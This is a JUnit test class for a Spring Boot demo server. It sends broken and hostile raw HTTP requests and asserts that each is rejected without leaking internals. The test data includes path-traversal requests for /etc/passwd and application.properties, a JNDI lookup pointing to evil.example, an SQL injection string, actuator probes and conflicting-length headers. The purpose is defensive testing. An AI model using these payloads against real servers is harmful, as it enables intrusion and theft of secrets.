package pl.asysta.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.regex.Pattern;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;
import pl.asysta.support.DemoServer;

/** Bytes as no browser sends them, to the real server. */
@DemoServer
@DisplayName("A request that is broken")
@DisplayNameGeneration(ReplaceUnderscores.class)
class BrokenRequestTests {
    private static final Pattern INSIDES =
            Pattern.compile("java\\.|org\\.apache|org\\.spring|pl\\.asysta|Exception|\\bat [\\w.]+\\(|Tomcat/");

    @LocalServerPort
    int port;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "GET /../../../../etc/passwd HTTP/1.1",
                "GET /css/..%2f..%2fapplication.properties HTTP/1.1",
                "GET /css/%2e%2e/%2e%2e/application.properties HTTP/1.1",
                "GET /css/..;/..;/application.properties HTTP/1.1",
                "GET /webjars/..%5c..%5capplication.properties HTTP/1.1",
                "GET //evil.example/%2f.. HTTP/1.1",
                "GET /%00 HTTP/1.1",
                "GET /%zz HTTP/1.1",
                "GET /cases/%c0%ae%c0%ae/ HTTP/1.1",
                "GET /login?%ff%fe=%zz HTTP/1.1",
                "GET /actuator/env HTTP/1.1",
                "GET /actuator/heapdump HTTP/1.1",
                "TRACE / HTTP/1.1",
                "TRACK / HTTP/1.1",
                "PUT /cases HTTP/1.1",
                "DELETE /login HTTP/1.1",
                "PROPFIND / HTTP/1.1",
                "OPTIONS * HTTP/1.1",
                "GET / HTTP/9.9",
                "GET /login HTTP/1.1\r\nCookie: SESSION=\u0001\u0002",
                "GET /login HTTP/1.1\r\nAccept-Language: ${jndi:ldap://evil.example/}",
                "GET /login HTTP/1.1\r\nX-Forwarded-For: '; drop table worker; --",
                "POST /login HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}",
                "POST /login HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 3\r\n\r\n--x",
                "POST /login HTTP/1.1\r\nContent-Type: text/xml\r\nContent-Length: 4\r\n\r\n<a/>",
                "POST /login HTTP/1.1\r\nContent-Length: -1",
                "POST /login HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nzzzz"
            })
    void is_turned_away_without_a_word_of_the_inside(String request) throws Exception {
        var answer = answer(request);

        assertThat(answer).matches("(?s)HTTP/1\\.1 ([1-4]\\d\\d|505) .*");
        assertThat(answer).doesNotContain("root:", "spring.datasource", "evil.example");
        assertThat(INSIDES.matcher(answer).results().map(found -> found.group()).toList())
                .isEmpty();
    }

    private String answer(String request) throws IOException {
        try (var socket = new Socket("127.0.0.1", port)) {
            socket.setSoTimeout(10_000);
            var head = request.split("\r\n\r\n", 2);
            var bytes = head[0] + "\r\nHost: localhost\r\nAccept: text/html\r\nConnection: close\r\n\r\n"
                    + (head.length > 1 ? head[1] : "");
            socket.getOutputStream().write(bytes.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().flush();
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
